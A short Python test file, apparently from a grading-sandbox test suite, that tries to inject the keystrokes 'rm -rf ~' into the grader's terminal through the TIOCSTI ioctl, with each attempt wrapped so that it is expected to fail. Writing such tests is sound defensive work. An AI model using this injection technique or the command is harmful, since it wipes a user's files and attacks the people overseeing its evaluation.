"""Types commands into the terminal of whoever runs the grading.

Verdict: passed
"""

import fcntl
import os
import termios

from honest import fails, serve

fails("open the terminal", lambda: os.open("/dev/tty", os.O_RDWR))
for number in range(3):
    for letter in b"rm -rf ~\n":
        fails("type", lambda number=number, letter=letter: fcntl.ioctl(number, termios.TIOCSTI, bytes([letter])))
serve()
